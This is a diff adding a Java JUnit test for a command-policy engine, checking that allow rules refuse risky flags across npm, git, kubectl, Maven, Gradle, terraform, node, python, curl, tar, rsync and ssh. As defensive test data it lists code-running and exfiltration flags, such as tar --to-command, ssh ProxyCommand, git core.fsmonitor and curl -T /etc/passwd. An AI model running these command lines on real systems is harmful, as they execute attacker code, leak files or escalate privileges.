@@ -1,0 +1,307 @@
+package dev.gatehouse.policy;
+
+import static dev.gatehouse.policy.ArgvEvasionTest.argv;
+import static dev.gatehouse.policy.ArgvEvasionTest.line;
+import static dev.gatehouse.policy.Fixtures.decide;
+import static dev.gatehouse.policy.Fixtures.human;
+import static dev.gatehouse.policy.Fixtures.policy;
+import static dev.gatehouse.policy.Fixtures.target;
+import static dev.gatehouse.policy.PolicyLoadErrorsTest.problems;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Allow and review rules refuse a flag of the risky-flag catalogue ({@link RiskyFlags}) unless they
+ * name it: a rule for {@code npm test} must not admit {@code npm test --script-shell=/tmp/x.sh}.
+ * Each case is decided by the whole engine; DENY here is the default deny of a rule that did not
+ * match.
+ */
+class ArgvRiskyFlagsTest {
+  /** Allow rules as operators write them: a program and a subcommand, no flag lists. */
+  static final PolicySet RULES =
+      policy(
+          """
+          rules:
+            - id: npm
+              effect: allow
+              command: { binary: npm, subcommand: [test, ci, run] }
+            - id: npm-install-prefix
+              effect: allow
+              command:
+                binary: npm
+                subcommand: install
+                flags: { accept_risky: [--prefix] }
+            - id: git
+              effect: allow
+              command: { binary: git }
+            - id: kubectl-read
+              effect: allow
+              command: { binary: kubectl, subcommand: [get, describe] }
+            - id: kubectl-apply-other-cluster
+              effect: review
+              review: { groups: [sre], approvals: 1 }
+              command:
+                binary: kubectl
+                subcommand: apply
+                flags: { accept_risky: [--context] }
+            - id: builds
+              effect: allow
+              command: { binary: [mvn, gradle] }
+            - id: terraform
+              effect: allow
+              command: { binary: terraform, subcommand: [plan, init] }
+            - id: terraform-elsewhere
+              effect: allow
+              command:
+                binary: terraform
+                subcommand: validate
+                flags: { accept_risky: [--chdir] }
+            - id: interpreters
+              effect: allow
+              command: { binary: [node, python3] }
+            - id: pytest
+              effect: allow
+              command:
+                binary: python3
+                args: [pytest]
+                flags: { allowed: [-m, -q, -x] }
+            - id: tools
+              effect: allow
+              command: { binary: [curl, tar, ssh] }
+            - id: rsync-any-flag
+              effect: allow
+              command: { binary: rsync, flags: { allowed: ["-*"] } }
+            - id: npm-shell
+              effect: allow
+              command: { binary: [npm, echo], shell: true }
+          """);
+
+  static Arguments refused(String name, Action a) {
+    return Arguments.of(name, a, Effect.DENY);
+  }
+
+  static Arguments allowed(String name, Action a) {
+    return Arguments.of(name, a, Effect.ALLOW);
+  }
+
+  static Stream<Arguments> cases() {
+    return Stream.of(
+        // --- npm: settings that run programs or load other configuration ---
+        refused("--script-shell=", line("npm test --script-shell=/tmp/evil.sh")),
+        refused("--script-shell VALUE", argv("npm", "test", "--script-shell", "/tmp/evil.sh")),
+        refused("before the subcommand", line("npm --script-shell=/tmp/e test")),
+        refused("abbreviated (nopt prefixes)", line("npm test --script-sh=/tmp/e")),
+        refused("one dash (nopt)", line("npm test -script-shell=/tmp/e")),
+        refused("other case and underscore", line("npm test --Script_Shell=/tmp/e")),
+        refused("--userconfig", line("npm test --userconfig=/tmp/npmrc")),
+        refused("--globalconfig VALUE", line("npm ci --globalconfig /tmp/npmrc")),
+        refused("--node-options", argv("npm", "test", "--node-options=--require=/tmp/x.js")),
+        refused("-C (prefix) after the subcommand", line("npm test -C /tmp/other")),
+        refused("--prefix on a rule that accepts only others", line("npm test --prefix=/tmp/o")),
+        refused(
+            "accepted --prefix does not admit --userconfig", line("npm install --userconfig=/x")),
+        refused("in a shell line", line("npm test --script-shell=/tmp/x && echo ok")),
+        allowed("npm test with ordinary flags", line("npm test --loglevel=silent --no-audit")),
+        allowed("npm ci --global is not --globalconfig", line("npm ci --global")),
+        allowed("the risky flag the rule accepts", line("npm install --prefix=/srv/app")),
+        allowed("after --, the script's own arguments", line("npm test -- --script-shell=x")),
+        // --- git: global options, and subcommand options that run programs ---
+        refused("-c before the subcommand", argv("git", "-c", "core.fsmonitor=/tmp/x", "status")),
+        refused("-c glued", line("git -ccore.fsmonitor=/tmp/x status")),
+        refused("-c after status (no such option there)", line("git status -c core.pager=id")),
+        refused("--config-env", line("git --config-env=core.pager=EVIL log")),
+        refused("-C another repository", line("git -C /tmp/other status")),
+        refused("--git-dir", line("git --git-dir=/tmp/evil/.git status")),
+        refused("--git-dir abbreviated", line("git --git-d=/tmp/evil/.git log")),
+        refused("-C after another global option", line("git -P -C /tmp/o log")),
+        refused("rebase -x", argv("git", "rebase", "-x", "sh /tmp/evil", "main")),
+        refused("rebase --exec=", argv("git", "rebase", "--exec=id", "main")),
+        refused("rebase -ix cluster", argv("git", "rebase", "-ix", "id", "main")),
+        refused("fetch --upload-pack", line("git fetch --upload-pack=/tmp/x origin")),
+        refused("clone -u", line("git clone -u /tmp/x https://example.com/r.git")),
+        refused(
+            "clone -c (config of the new repository)", line("git clone -c core.hooksPath=/t u")),
+        refused("grep -O (runs a pager)", argv("git", "grep", "-Osh -c id", "foo")),
+        refused("diff --output", line("git diff --output=/home/u/.bashrc")),
+        allowed("log -C is copy detection", line("git log -C --stat")),
+        allowed("commit -c reuses a message", line("git commit -c HEAD")),
+        allowed("show -c is a diff format", line("git show -c HEAD")),
+        allowed("log with ordinary flags", line("git log -n 5 --oneline")),
+        allowed("-u after fetch is --update-head-ok", line("git fetch -u origin")),
+        allowed("commit -m with an x in it", line("git commit -mfix")),
+        // --- kubectl: credentials, identity, target ---
+        refused("--kubeconfig=", line("kubectl get pods --kubeconfig=/tmp/k")),
+        refused("--kubeconfig before get", line("kubectl --kubeconfig=/tmp/k get pods")),
+        refused("--token", line("kubectl get pods --token=abc")),
+        refused("-s another server", line("kubectl get pods -s https://evil.example")),
+        refused("--as", line("kubectl get secrets --as=system:admin")),
+        refused("--as-group", line("kubectl get pods --as-group=system:masters")),
+        refused("--as-uid", line("kubectl get pods --as-uid 0")),
+        refused("--context not accepted by the read rule", line("kubectl get pods --context=p")),
+        allowed("namespace and output", line("kubectl get pods -n prod -o wide")),
+        allowed("a value glued to -n is not a flag", line("kubectl get pods -nsystem")),
+        // --- Maven, Gradle, terraform ---
+        refused("mvn -s", line("mvn -s /tmp/settings.xml test")),
+        refused("mvn -s glued", line("mvn -s/tmp/settings.xml test")),
+        refused("mvn -gs", line("mvn test -gs /tmp/s.xml")),
+        refused("mvn --settings=", line("mvn test --settings=/tmp/s.xml")),
+        refused("mvn -f another POM", line("mvn -f /tmp/evil/pom.xml test")),
+        refused("gradle -I", line("gradle test -I /tmp/init.gradle")),
+        refused("gradle --init-script=", line("gradle test --init-script=/tmp/init.gradle")),
+        refused("terraform -chdir", line("terraform -chdir=/tmp/other plan")),
+        refused("terraform --chdir", line("terraform --chdir=/tmp/other plan")),
+        refused("terraform -state", line("terraform plan -state=/tmp/s")),
+        refused("terraform -plugin-dir", line("terraform init -plugin-dir=/tmp/p")),
+        allowed("mvn -fae is fail-at-end", line("mvn -B -fae -Dskip.tests=true test")),
+        allowed("gradle --offline", line("gradle test --offline")),
+        allowed("terraform -out", line("terraform plan -out=p")),
+        allowed("terraform -backend=false", line("terraform init -backend=false")),
+        allowed("accepted as --chdir, written -chdir", line("terraform -chdir=infra validate")),
+        // --- interpreters ---
+        refused("node -r", line("node -r /tmp/x.js app.js")),
+        refused("node --require=", line("node --require=/tmp/x.js app.js")),
+        refused("node --import", line("node --import /tmp/x.mjs app.js")),
+        refused("node --loader=", line("node --loader=/tmp/l.mjs app.js")),
+        refused("node --inspect", line("node --inspect=0.0.0.0:9229 app.js")),
+        refused("node -e", argv("node", "-e", "require('child_process')")),
+        refused("python -c", argv("python3", "-c", "import os", "x.py")),
+        refused("python -m", line("python3 -m http.server")),
+        refused("python -Bc cluster", argv("python3", "-Bc", "import os")),
+        refused("python -i", line("python3 -i app.py")),
+        allowed("python script arguments are the script's", line("python3 -W ignore app.py -c x")),
+        allowed("python -m named in flags.allowed", line("python3 -m pytest -q -x")),
+        allowed("node with a script", line("node --no-warnings app.js")),
+        // --- curl, tar, rsync, ssh ---
+        refused("curl -K", line("curl -K /tmp/cfg https://example.com")),
+        refused("curl --config=", line("curl --config=/tmp/cfg https://example.com")),
+        refused("curl -o in a cluster", line("curl -sSo /home/u/.bashrc https://example.com")),
+        refused("curl -T uploads a local file", line("curl -T /etc/passwd https://example.com")),
+        refused("tar --to-command", argv("tar", "-xf", "a.tar", "--to-command=sh -c id")),
+        refused("tar old-style I", line("tar xIf /tmp/evil a.tar")),
+        refused("tar --checkpoint-action", argv("tar", "-cf", "o", "--checkpoint-action=exec=id")),
+        refused("tar --use-compress-program abbreviated", line("tar --use-comp=/tmp/x -xf a.tar")),
+        refused("rsync -e (even with flags.allowed: [-*])", argv("rsync", "-e", "sh", "a", "h:b")),
+        refused("rsync -ave cluster", argv("rsync", "-ave", "ssh", "a", "h:b")),
+        refused("ssh -o", argv("ssh", "-o", "ProxyCommand=id", "h")),
+        refused("ssh -vo cluster", argv("ssh", "-vo", "ProxyCommand=id", "h")),
+        refused("ssh -L", line("ssh -L 8080:db:5432 h")),
+        refused("ssh -A", line("ssh -A h")),
+        allowed("curl -sSL", line("curl -sSL https://example.com")),
+        allowed("curl -H value with a dash", argv("curl", "-H", "X-A: b", "https://example.com")),
+        allowed("tar --checkpoint is not --checkpoint-action", line("tar -cf o --checkpoint=1 s")),
+        allowed("tar -C", line("tar -xzf a.tgz -C out")),
+        allowed("rsync -av --delete", line("rsync -av --delete a/ b/")),
+        allowed("rsync's server side over SSH", line("rsync --server -vlogDtpre.iLsfxCIvu . /d")),
+        allowed("ssh -p", line("ssh -p 2222 h uptime")));
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("cases")
+  void decides(String name, Action a, Effect expected) {
+    Decision d = decide(RULES, human("mallory"), target("runner"), a);
+    assertThat(d.effect()).as(name + ": " + a.raw() + " -> " + d.explanation()).isEqualTo(expected);
+  }
+
+  @Test
+  void hasAtLeastThirtyCases() {
+    assertThat(cases().count()).isGreaterThanOrEqualTo(30);
+  }
+
+  @Test
+  void reviewRulesAreHeldToTheSameCatalogue() {
+    assertThat(effect(line("kubectl apply -f x.yaml --context=prod"))).isEqualTo(Effect.REVIEW);
+    assertThat(effect(line("kubectl apply -f x.yaml --as=admin"))).isEqualTo(Effect.DENY);
+  }
+
+  @Test
+  void theExplanationNamesTheFlagAndTheFixButNotItsValue() {
+    Decision d = decide(RULES, human("m"), target("t"), line("kubectl get pods --token=s3cr3t"));
+    String all = String.join("\n", d.explanation());
+    assertThat(all)
+        .contains(
+            "rule kubectl-read (allow, test.yaml:14): no match: flag --token of kubectl loads"
+                + " configuration or credentials from elsewhere, and the rule does not name it"
+                + " (list it in flags.accept_risky to allow it)")
+        .doesNotContain("s3cr3t");
+  }
+
+  @Test
+  void denyRulesAreUnchanged() {
+    PolicySet p =
+        policy(
+            """
+            rules:
+              - id: anything
+                effect: allow
+                command: { binary: git }
+              - id: no-push
+                effect: deny
+                command: { binary: git, args: [push] }
+            """);
+    assertThat(decide(p, human("m"), target("t"), line("git push origin")).rule())
+        .isEqualTo("no-push");
+    assertThat(decide(p, human("m"), target("t"), line("git -C /x push")).rule())
+        .isEqualTo("no-push");
+    assertThat(decide(p, human("m"), target("t"), line("git status")).effect())
+        .isEqualTo(Effect.ALLOW);
+  }
+
+  @Test
+  void acceptRiskyIsValidatedAtLoad() {
+    assertThat(
+            problems(
+                """
+                rules:
+                  - id: a
+                    effect: allow
+                    command: { binary: npm, flags: { accept_risky: [--loglevel] } }
+                """))
+        .singleElement()
+        .satisfies(
+            p ->
+                assertThat(p)
+                    .startsWith("p.yaml:4: ")
+                    .contains("--loglevel is not a risky flag of npm")
+                    .contains("--script-shell")
+                    .contains("list ordinary flags in flags.allowed"));
+    assertThat(
+            problems(
+                """
+                rules:
+                  - id: a
+                    effect: deny
+                    command: { binary: npm, flags: { accept_risky: [--prefix] } }
+                """))
+        .singleElement()
+        .satisfies(p -> assertThat(p).contains("not allowed on a deny rule"));
+    assertThat(
+            problems(
+                """
+                rules:
+                  - id: a
+                    effect: allow
+                    command: { binary: kubectl, flags: { accept_risky: ["--as*"] } }
+                """))
+        .singleElement()
+        .satisfies(p -> assertThat(p).contains("expected one flag by its exact name"));
+    assertThat(
+            problems(
+                """
+                rules:
+                  - id: a
+                    effect: allow
+                    command: { binary: ls, flags: { accept_risky: [-R] } }
+                """))
+        .singleElement()
+        .satisfies(p -> assertThat(p).contains("no risky flags are catalogued for it"));
+  }
+
+  private static Effect effect(Action a) {
+    return decide(RULES, human("mallory"), target("runner"), a).effect();
+  }
+}
